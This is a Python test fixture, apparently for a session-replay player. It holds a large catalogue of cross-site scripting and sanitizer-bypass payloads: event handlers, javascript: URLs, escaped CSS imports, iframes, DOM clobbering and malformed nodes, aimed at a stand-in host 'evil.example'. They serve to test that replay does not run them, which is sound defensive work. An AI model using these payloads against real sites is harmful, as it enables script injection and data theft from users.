"""Recordings that attack whoever replays them: by name, as events. HIT runs if a script does; EVIL is elsewhere."""

# ruff: noqa: E501 - an attack is read as a whole, in one line

from typing import Any

from tests.player.nodes import added, change, document, element, mutation, page, parsed, snapshot

HIT = "parent.postMessage('hit','*')"
EVIL = "https://evil.example/x"
SVG = (
    "data:image/svg+xml,"
    + f"<svg xmlns='http://www.w3.org/2000/svg' id='x' onload=\"{HIT}\"><script>{HIT}</script></svg>"
)

_IN_A_PAGE = {
    "script": f"<script>{HIT}</script>",
    "script from elsewhere": f'<script src="{EVIL}"></script>',
    "module": f'<script type="module" src="{EVIL}"></script>',
    "script in svg": f"<svg><script>{HIT}</script></svg>",
    "image that fails": f'<img src="x" onerror="{HIT}">',
    "image with its own data": f'<img src="{SVG}" onload="{HIT}">',
    "svg onload": f'<svg onload="{HIT}"><circle r="4"></circle></svg>',
    "details ontoggle": f'<details open ontoggle="{HIT}"><summary>x</summary></details>',
    "autofocus": f'<input autofocus onfocus="{HIT}">',
    "handler in capitals": f'<img src="x" ONERROR="{HIT}" OnError="{HIT}">',
    "animation handler": f'<style>@keyframes a{{from{{color:red}}}}</style><p style="animation:a 1s" onanimationstart="{HIT}">x</p>',
    "marquee": f'<marquee onstart="{HIT}">x</marquee>',
    "video source": f'<video autoplay onloadstart="{HIT}"><source src="{EVIL}" onerror="{HIT}"></video>',
    "frame with a script for an address": f"<iframe src=\"javascript:parent.{HIT}\"></iframe>",
    "frame srcdoc": f"<iframe srcdoc=\"<script>parent.{HIT}</script>\"></iframe>",
    "frame elsewhere": f'<iframe src="{EVIL}"></iframe>',
    "frame of data": f'<iframe src="data:text/html,<script>parent.{HIT}</script>"></iframe>',
    "frameset": f'<frameset onload="{HIT}"><frame src="{EVIL}"></frameset>',
    "portal": f'<portal src="{EVIL}"></portal><fencedframe src="{EVIL}"></fencedframe>',
    "object": f'<object data="{EVIL}"><embed src="{EVIL}"></object>',
    "object of data": f'<object data="data:text/html,<script>parent.{HIT}</script>"></object>',
    "embed with a script for an address": f'<embed src="javascript:{HIT}">',
    "base": '<base href="https://evil.example/"><img src="x.png">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "refresh to a script": f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">',
    "link to a sheet": f'<link rel="stylesheet" href="{EVIL}">',
    "links ahead": "".join(f'<link rel="{rel}" href="{EVIL}" as="script">' for rel in ("preload", "prefetch", "modulepreload", "icon", "manifest", "dns-prefetch", "preconnect", "prerender")),
    "link that runs": f'<a href="javascript:{HIT}">x</a>',
    "link that runs, hidden": f'<a href=" java\n\tscript:{HIT}">x</a><a href="\x01javascript:{HIT}">y</a>',
    "link elsewhere": f'<a href="{EVIL}" ping="{EVIL}" target="_top">x</a>',
    "link of data": f'<a href="data:text/html,<script>{HIT}</script>">x</a>',
    "form": f'<form action="{EVIL}"><button formaction="javascript:{HIT}">x</button><input type="submit"></form>',
    "image": f'<img src="{EVIL}">',
    "image set": f'<img srcset="{EVIL} 2x"><picture><source srcset="{EVIL}"><img alt=""></picture>',
    "lazy image": f'<img loading="lazy" src="{EVIL}" data-src="x">',
    "media": f'<video src="{EVIL}" poster="{EVIL}" autoplay></video><audio src="{EVIL}" autoplay></audio>',
    "track": f'<video><track default kind="captions" src="{EVIL}"></video>',
    "image button": f'<input type="image" src="{EVIL}">',
    "background": f'<table background="{EVIL}"><tr><td background="{EVIL}">x</td></tr></table>',
    "svg image": f'<svg><image href="{EVIL}" xlink:href="{EVIL}" width="9" height="9"></image></svg>',
    "svg use": f'<svg><use href="{EVIL}#x"></use><use xlink:href="{SVG}#x"></use></svg>',
    "svg animates a link": f'<svg><a><animate attributeName="href" values="javascript:{HIT}"></animate><set attributeName="onload" to="{HIT}"></set><text y="9">x</text></a></svg>',
    "svg filter": f'<svg><filter id="f"><feImage href="{EVIL}"></feImage></filter><rect width="9" height="9" filter="url(#f)"></rect></svg>',
    "foreign object": f'<svg><foreignObject><img src="x" onerror="{HIT}"></foreignObject></svg>',
    "mathematics": f'<math><maction actiontype="statusline" xlink:href="javascript:{HIT}">x</maction></math>',
    "import": f"<style>@import '{EVIL}'; @import url({EVIL}) screen;</style>",
    "import, escaped": f"<style>@\\69mport '{EVIL}'; @\\000049 MPORT url('{EVIL}');</style>",
    "import after a comment": f"<style>/*/*/@import/**/'{EVIL}';/**/ @import/* ; */url({EVIL});</style>",
    "background in a sheet": f"<style>body{{background:url({EVIL})}} p::after{{content:url('{EVIL}')}}</style><p>x</p>",
    "url, escaped": f"<style>body{{background:\\75 rl({EVIL})}} html{{background:u\\72l('{EVIL}')}} p{{background:\\u\\r\\l({EVIL})}}</style><p>x</p>",
    "url after a broken string": f"<style>p{{content:\"\nbackground:url({EVIL});}} p{{background:url({EVIL})}} /* \"</style><p>x</p>",
    "image-set": f"<style>p{{background:image-set('{EVIL}' 1x); background-image:-webkit-image-set(url({EVIL}) 1x); mask:cross-fade(url({EVIL}), url({EVIL}))}}</style><p>x</p>",
    "font": f"<style>@font-face{{font-family:e;src:url({EVIL})}} p{{font-family:e}}</style><p>x</p>",
    "pointer and marks": f"<style>p{{cursor:url({EVIL}),auto; list-style:url({EVIL}); border-image:url({EVIL}) 1; filter:url({EVIL}#f); clip-path:url({EVIL}#c); shape-outside:url({EVIL})}}</style><p>x</p>",
    "style attribute": f'<p style="background:url({EVIL});background-image:u\\72l({EVIL})">x</p>',
    "variable": f"<style>:root{{--u:url({EVIL})}} p{{background:var(--u)}}</style><p>x</p>",
    "namespace": f"<style>@namespace url({EVIL}); @charset '{EVIL}'; @document url({EVIL}){{}}</style>",
    "noscript": f'<noscript><img src="{EVIL}" onerror="{HIT}"></noscript><template><img src="{EVIL}"></template>',
    "names that shadow": '<form><input name="parentNode"><input name="appendChild"></form><img name="createElement"><img name="getAnimations"><a id="parent"></a><form id="document" name="body"></form>',
    "dialog and popover": f'<dialog open onclose="{HIT}">x</dialog><div popover onbeforetoggle="{HIT}">x</div>',
    "is": f'<p is="x-y" onclick="{HIT}">x</p><x-y onclick="{HIT}">x</x-y>',
}  # fmt: skip


def _events() -> dict[str, list[dict[str, Any]]]:
    start = page("<p>x</p><img><a>x</a><style>b{color:red}</style><div></div><video></video><canvas></canvas>")
    paragraph, image, link, sheet, _, film, canvas = (node["id"] for node in start[1]["data"]["node"]["childNodes"][1]["childNodes"][1]["childNodes"])  # fmt: skip
    words = start[1]["data"]["node"]["childNodes"][1]["childNodes"][1]["childNodes"][3]["childNodes"][0]["id"]
    bad = f"b{{background:url({EVIL})}}"
    frame = element(300, "iframe", {"src": EVIL})
    inner = document(*parsed(f'<img src="{EVIL}" onerror="{HIT}"><script>{HIT}</script><style>{bad}</style>'))
    renumbered = {**inner, "id": 400, "childNodes": [{**inner["childNodes"][1], "id": 401}]}
    host = element(500, "div", {}, element(501, "img", {"src": "x", "onerror": HIT}, isShadow=True), element(502, "script", {}, {"type": 3, "id": 503, "textContent": HIT}, isShadow=True), isShadowHost=True)  # fmt: skip
    odd = {**document(), "childNodes": [{"type": 1, "id": 5, "name": f"html><script>{HIT}</script", "publicId": f'"><script>{HIT}</script>', "systemId": EVIL}, *document()["childNodes"][1:]]}  # fmt: skip
    return {
        "added script": [*start, mutation(adds=[added(4, element(200, "script", {"src": EVIL})), added(200, {"type": 3, "id": 201, "textContent": HIT})])],
        "added script in capitals": [*start, mutation(adds=[added(4, element(200, "SCRIPT", {"SRC": EVIL})), added(4, element(201, "IMG", {"SRC": "x", "ONERROR": HIT}))])],
        "added text of a script": [*page(f"<script>{HIT}</script>"), mutation(texts=[{"id": 101, "value": HIT}])],
        "attributes set later": [*start, mutation(attributes=[{"id": image, "attributes": {"src": EVIL, "onerror": HIT, "srcset": EVIL}}, {"id": link, "attributes": {"href": f"javascript:{HIT}", "onclick": HIT}}, {"id": film, "attributes": {"src": EVIL, "poster": EVIL}}])],
        "style set later": [*start, mutation(attributes=[{"id": paragraph, "attributes": {"style": {"background": f"url({EVIL})", "mask": [f"url({EVIL})", "important"]}}}])],
        "text of a sheet": [*start, mutation(texts=[{"id": words, "value": bad}])],
        "rule": [*start, change(8, id=sheet, adds=[{"rule": bad, "index": 0}]), change(8, id=sheet, replaceSync=f"@import '{EVIL}'; {bad}")],
        "declaration": [*start, change(13, id=sheet, index=[0], set={"property": "background", "value": f"url({EVIL})"})],
        "adopted sheet": [*start, change(15, id=1, styles=[{"styleId": 1, "rules": [{"rule": "p{background:url(" + EVIL + ")}", "index": 0}]}], styleIds=[1])],
        "font": [*start, change(10, family="e", fontSource=f"url({EVIL})", buffer=False), mutation(attributes=[{"id": paragraph, "attributes": {"style": "font-family:e"}}])],
        "canvas": [*start, change(9, id=canvas, type=0, commands=[{"property": "fillStyle", "args": ["red"], "setter": True}, {"property": "drawImage", "args": [{"rr_type": "ImageData", "src": EVIL}]}, {"property": "constructor", "args": [HIT]}])],
        "media": [*start, change(7, id=film, type=0, currentTime=1, src=EVIL)],
        "frame's document": [*start, mutation(adds=[added(4, frame)]), mutation(at=11, adds=[added(300, renumbered)], isAttachIframe=True)],
        "shadow tree": [*start, mutation(adds=[added(4, {**host, "childNodes": []}), *(added(500, child) for child in host["childNodes"])]), *snapshot(document(host), at=20)],
        "address of the page": [{"type": 4, "data": {"href": f"javascript:{HIT}", "width": 800, "height": 600}, "timestamp": 0}, *start],
        "kept picture": [*page(f'<img rr_dataURL="{EVIL}" src="{EVIL}"><canvas rr_dataURL="{EVIL}"></canvas>')],
        "custom event": [*start, {"type": 5, "data": {"tag": HIT, "payload": {"html": f"<script>{HIT}</script>"}}, "timestamp": 10}, {"type": 6, "data": {"plugin": "rrweb/console@1", "payload": HIT}, "timestamp": 11}],
        "document type": [*snapshot(odd)],
        "tag that is none": [*snapshot(document(element(100, f"img src=x onerror={HIT}"), element(101, "script\x00"), element(102, "svg/onload=" + HIT)))],
        "attribute that is none": [*snapshot(document(element(100, "p", {f"x><img src=x onerror={HIT}>": "1", "": "2", "on click": HIT, "style": 5, "href": {"a": 1}})))],
        "custom element": [*snapshot(document(element(100, "x-evil", {"onclick": HIT}, isCustom=True))), change(16, define={"name": "x-evil"})],
        "sheet kept in a link": [*page(f'<link rel="stylesheet" href="{EVIL}" _cssText="@import \'{EVIL}\'; {bad}">')],
        "later sheet of a link": [*page(f'<link rel="stylesheet" href="{EVIL}">'), mutation(attributes=[{"id": 100, "attributes": {"_cssText": bad, "href": EVIL, "rel": "stylesheet"}}])],
        "typed text": [*page('<input><textarea></textarea>'), change(5, id=100, text=f"<script>{HIT}</script>", isChecked=False), change(5, id=101, text=f"</textarea><script>{HIT}</script>", isChecked=True)],
        "pressed": [*page(f'<a href="javascript:{HIT}" onclick="{HIT}">x</a>'), *(change(2, at=10 + kind, type=kind, id=100, x=1, y=1) for kind in range(10))],
        "no numbers": [*start, change(3, id="1); alert(1", x="0", y=None), change(1, positions=[{"x": HIT}]), change(4, width="9e9", height=-1), mutation(adds=[added(-1, element(-5, "p")), {"parentId": 4}], removes=[{"id": True}])],
    }  # fmt: skip


PAYLOADS = {**{name: page(html) for name, html in _IN_A_PAGE.items()}, **_events()}
